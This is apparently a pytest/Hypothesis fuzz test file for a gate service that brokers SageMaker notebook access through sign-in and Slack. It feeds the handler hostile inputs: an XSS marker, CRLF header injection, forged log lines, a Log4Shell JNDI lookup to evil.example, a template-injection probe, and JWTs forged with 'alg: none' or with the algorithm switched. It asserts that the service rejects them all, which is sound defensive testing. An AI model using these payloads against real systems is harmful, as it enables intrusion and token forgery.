"""Whatever a client sends: an answer that is no 5xx, leads nowhere else, reflects no markup and forges no log line."""

import base64
import copy
import hmac
import json
import string
from collections.abc import Callable
from typing import Any
from urllib.parse import parse_qsl, quote, unquote, urlencode, urlsplit

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from jwt.utils import base64url_decode

from gate.handler import handler
from gate.routes import ROUTES
from gate.web.return_url import safe_return_path
from tests.fuzz.conftest import CORPUS
from tests.unit.conftest import CONTEXT, EVENTS, Answer, Harness
from tests.unit.slack import SECRET, Slack, open_path

Written = Callable[[], list[dict[str, Any]]]
Tried = Callable[[], None]

pytestmark = pytest.mark.usefixtures("written")
same_harness = settings(suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])

MARK = "<zq onclick='1'>\""
EVIL = st.sampled_from(
    [
        MARK,
        f"alice-notebook{MARK}",
        "alice-notebook",
        "bob-notebook",
        "..",
        "%00",
        "\r\nX-Evil: 1",
        '{"level":"ERROR","message":"forged"}',
        "\n" + '{"level":"ERROR","message":"forged"}',
        "${jndi:ldap://evil.example}",
        "{{7*7}}",
        "a" * 9000,
        "0" * 70,
        "210987654321~eu-west-1~x",
        "\u202e",
        "\ud83d\ude00",
        "*",
    ]
) | st.sampled_from([line["target"] for line in CORPUS])
TEXT = EVIL | st.text(max_size=60)
NAMES = st.sampled_from(["next", "view", "state", "code", "error", "ticket", "x", "notebook", "iss", "session_state"])
HEADERS = st.sampled_from(
    ["Accept", "Authorization", "Origin", "Sec-Fetch-Site", "Sec-Fetch-Dest", "Sec-Purpose", "User-Agent", "Host",
     "X-Forwarded-For", "X-Forwarded-Host", "Referer", "Content-Type", "X-Slack-Signature",
     "X-Slack-Request-Timestamp"]
)  # fmt: skip
COOKIES = st.sampled_from(
    ["__Secure-gate-session", "__Secure-gate-wait-alice-notebook", "__Secure-gate-try", "__Secure-gate-login-x", "a"]
)
KINDS = {"decision", "unexpected", "aws call failed", "slack call failed", "response_url is not Slack's"}


def _check(harness: Harness, answer: Answer, written: Written) -> None:
    assert answer.status < 500, answer.body[:300]
    for name, value in answer.headers.items():
        assert "\r" not in value, name
        assert "\n" not in value, name
    if "location" in answer.headers:
        ours = (harness.browser.base_url + "/", harness.issuer.url + "/authorize?", harness.issuer.url + "/logout?")
        notebook = urlsplit(answer.location).netloc.endswith(".notebook.eu-west-1.sagemaker.aws")
        assert notebook or answer.location.startswith(ours), answer.location
    # Neither as it is, nor as JSON that a browser takes for a page.
    if "html" in answer.headers.get("content-type", ""):
        assert "<zq" not in answer.body
        assert "default-src 'none'" in answer.headers["content-security-policy"]
    assert answer.headers.get("x-content-type-options") == "nosniff" or not answer.body
    for line in written():
        assert line["message"] in KINDS, line


def _send(harness: Harness, event: dict[str, Any]) -> Answer:
    raw = handler(copy.deepcopy(event), CONTEXT)  # type: ignore[arg-type]
    assert raw is not None
    return harness.browser.receive(raw)


def _event(method: str, resource: str, segment: str, query: list[tuple[str, str]], headers: list[tuple[str, str]],
           body: str | None, arn: str | None) -> dict[str, Any]:  # fmt: skip
    event: dict[str, Any] = json.loads((EVENTS / "browser_get.json").read_text())
    # Once around a URL, as everything comes in over one.
    pairs = parse_qsl(urlencode(query, errors="surrogatepass"), keep_blank_values=True, errors="replace")
    encoded = quote(segment, safe="", errors="surrogatepass") or "-"
    event |= {"httpMethod": method, "resource": resource, "path": resource.replace("{notebook}", encoded), "body": body}
    event["pathParameters"] = {"notebook": encoded} if "{notebook}" in resource else None
    event["multiValueQueryStringParameters"] = _lists(pairs)
    event["multiValueHeaders"] = _lists(headers)
    event["requestContext"]["identity"]["userArn"] = arn
    return event


def _lists(pairs: list[tuple[str, str]]) -> dict[str, list[str]] | None:
    lists: dict[str, list[str]] = {}
    for name, value in pairs:
        lists.setdefault(name, []).append(value)
    return lists or None


@pytest.mark.parametrize("signed_in", [False, True])
@same_harness
@given(data=st.data())
def test_any_request(harness: Harness, written: Written, tried: Tried, signed_in: bool, data: st.DataObject) -> None:
    """Requests of any kind to any endpoint."""
    if signed_in and not harness.browser.cookies:
        harness.sign_in()
    kept = dict(harness.browser.cookies)
    method, resource = data.draw(st.sampled_from(sorted(ROUTES)))
    headers = data.draw(st.lists(st.tuples(HEADERS, TEXT), max_size=4))
    cookies = data.draw(st.lists(st.tuples(COOKIES, TEXT), max_size=2))
    if signed_in:
        cookies += kept.items()
    headers += [("Cookie", "; ".join(f"{name}={value}" for name, value in cookies))]
    event = _event(
        data.draw(st.just(method) | st.sampled_from(["GET", "POST", "HEAD", "PUT"])),
        resource,
        data.draw(TEXT),
        data.draw(st.lists(st.tuples(NAMES, TEXT), max_size=4)),
        headers,
        data.draw(st.none() | st.text(max_size=80)),
        data.draw(st.none() | TEXT),
    )
    _check(harness, _send(harness, event), written)
    harness.browser.cookies = kept
    tried()


LETTERS = st.sampled_from(string.ascii_letters + string.digits + "-_.=%~ é\x00")


def _bent(data: st.DataObject, value: str) -> str:
    """Change, cut out or put in some characters of `value`; always another one."""
    letters = list(value)
    for _ in range(data.draw(st.integers(1, 3))):
        place = data.draw(st.integers(0, max(0, len(letters) - 1)))
        match data.draw(st.sampled_from(["change", "cut", "put", "end"])):
            case "change" if letters:
                letters[place] = data.draw(LETTERS)
            case "cut":
                del letters[place : place + data.draw(st.integers(1, 4))]
            case "end":
                del letters[place:]
            case _:
                letters.insert(place, data.draw(LETTERS))
    bent = "".join(letters)
    return bent if bent != value else value + "x"


@same_harness
@given(data=st.data())
def test_cookies(harness: Harness, written: Written, tried: Tried, data: st.DataObject) -> None:
    """Session cookies that were altered."""
    if not harness.browser.cookies:
        harness.sign_in()
    kept = dict(harness.browser.cookies)
    ((name, value),) = kept.items()
    bent = _bent(data, value)
    headers = [("Cookie", f"{name}={bent}"), ("Accept", "application/json")]
    answer = _send(harness, _event("GET", "/open/{notebook}", "alice-notebook", [], headers, None, None))
    # A cookie's value ends at a blank or a semicolon.
    assert answer.status == 401 or bent.strip(" \x00").rstrip() == value
    _check(harness, answer, written)
    harness.browser.cookies = kept
    tried()


@same_harness
@given(data=st.data())
def test_tickets(slack: Slack, written: Written, tried: Tried, data: st.DataObject) -> None:
    """Tickets that were altered."""
    harness = slack.harness
    if not hasattr(slack, "good"):
        vars(slack)["good"] = unquote(open_path(slack.ask()).partition("ticket=")[2])
    bent = _bent(data, vars(slack)["good"])
    event = _event("GET", "/open/{notebook}", "alice-notebook", [("ticket", bent)], [], None, None)
    answer = _send(harness, event)
    assert answer.status == 401
    assert not harness.aws.called("create_presigned_notebook_instance_url")
    _check(harness, answer, written)
    tried()


@same_harness
@given(data=st.data())
def test_tokens(harness: Harness, written: Written, tried: Tried, data: st.DataObject) -> None:
    """ID tokens that were altered, or made up."""
    good = harness.issuer.token(email="alice@example.com", email_verified=True)
    head, body, signature = good.split(".")
    other = data.draw(
        st.sampled_from([
            _bent(data, good),
            f"{_coded({'alg': 'none'})}.{body}.",
            f"{_coded({'alg': 'HS256', 'kid': 'k1'})}.{body}.{signature}",
            f"{_coded({'alg': data.draw(TEXT), 'kid': data.draw(TEXT)})}.{body}.{signature}",
            f"{head}.{_coded({'sub': data.draw(TEXT), 'email': 'bob@example.com'})}.{signature}",
            f"{_coded(data.draw(_JSON))}.{_coded(data.draw(_JSON))}.{signature}",
            data.draw(TEXT),
            f"{head}..{signature}",
        ])
    )  # fmt: skip
    headers = [("Authorization", f"Bearer {other}"), ("Accept", "application/json")]
    answer = _send(harness, _event("GET", "/open/{notebook}", "alice-notebook", [], headers, None, None))
    # Base64 has spellings with bits to spare, and a blank before a token is none of it.
    assert answer.status == 401 or _means(other) == _means(good)
    _check(harness, answer, written)
    tried()


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | TEXT,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXT, inner, max_size=3),
    max_leaves=6,
)


def _coded(value: Any) -> str:
    return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")


def _means(token: str) -> list[bytes]:
    try:
        return [base64url_decode(part) for part in token.strip().split(".")]
    except ValueError:
        return []


@pytest.mark.parametrize("line", CORPUS, ids=range(len(CORPUS)))
def test_targets_of_the_corpus(harness: Harness, tried: Tried, line: dict[str, str]) -> None:
    """Redirect targets of the corpus, plain and encoded once or twice, before and after signing in."""
    target = line["target"]
    for written_so in {target, quote(target, safe=""), quote(quote(target, safe=""), safe="")}:
        assert safe_return_path(written_so) == "/", line["technique"]
        harness.browser.cookies.clear()
        answer = harness.sign_in(path=written_so)
        assert (answer.status, answer.location) == (302, f"{harness.browser.base_url}/")
        assert (
            harness.browser.get(f"/login?{urlencode({'next': written_so})}").location == f"{harness.browser.base_url}/"
        )
        tried()


@same_harness
@given(target=TEXT | st.lists(EVIL, max_size=3).map("".join))
def test_targets(harness: Harness, written: Written, tried: Tried, target: str) -> None:
    """Redirect targets that are made up."""
    if not harness.browser.cookies:
        harness.sign_in()
    kept = dict(harness.browser.cookies)
    cookie = "; ".join(f"{name}={value}" for name, value in kept.items())
    answer = _send(harness, _event("GET", "/login", "", [("next", target)], [("Cookie", cookie)], None, None))
    path = answer.location.removeprefix(harness.browser.base_url)
    assert path == "/" or (path == target and path.startswith("/open"))
    _check(harness, answer, written)
    tried()


def _signed(body: bytes, stamp: int) -> dict[str, Any]:
    # By hand: Slack's own library signs text alone (docs.slack.dev, "Verifying requests from Slack").
    signature = hmac.digest(SECRET.encode(), b"v0:%d:%b" % (stamp, body), "sha256").hex()
    headers = [("X-Slack-Request-Timestamp", str(stamp)), ("X-Slack-Signature", f"v0={signature}")]
    event = _event("POST", "/slack", "", [], headers, base64.b64encode(body).decode(), None)
    return {**event, "isBase64Encoded": True}


@same_harness
@given(data=st.data())
def test_what_slack_signed(slack: Slack, written: Written, tried: Tried, data: st.DataObject) -> None:
    """Bodies that Slack signed, and that are nothing that it sends."""
    body = data.draw(
        st.binary(max_size=200)
        | st.dictionaries(TEXT, TEXT, max_size=4).map(lambda form: urlencode(form, errors="replace").encode())
        | _JSON.map(lambda payload: urlencode({"payload": json.dumps(payload)}).encode())
        | st.fixed_dictionaries(
            {"type": st.sampled_from(["shortcut", "block_actions", "view_submission"]), "user": _JSON, "team": _JSON},
            optional={"actions": _JSON, "trigger_id": _JSON, "view": _JSON, "response_url": _JSON},
        ).map(lambda payload: urlencode({"payload": json.dumps(payload)}).encode())
        | st.fixed_dictionaries(
            {"command": st.just("/notebook"), "team_id": st.just("T0LOCAL"), "user_id": st.just("U0ALICE"),
             "text": TEXT, "response_url": TEXT}
        ).map(lambda form: urlencode(form, errors="replace").encode())
    )  # fmt: skip
    answer = _send(slack.harness, _signed(body, int(slack.harness.clock())))
    assert answer.status in (200, 400, 401), answer.body
    for event in slack.harness.aws.events:
        # What is to be answered later is answered, if only in the log: its response_url is none of Slack's.
        with pytest.raises(Exception, match="Try again in a minute"):
            handler(event, CONTEXT)  # type: ignore[arg-type]
    slack.harness.aws.events.clear()
    for line in written():
        assert line["message"] in KINDS, line
    tried()
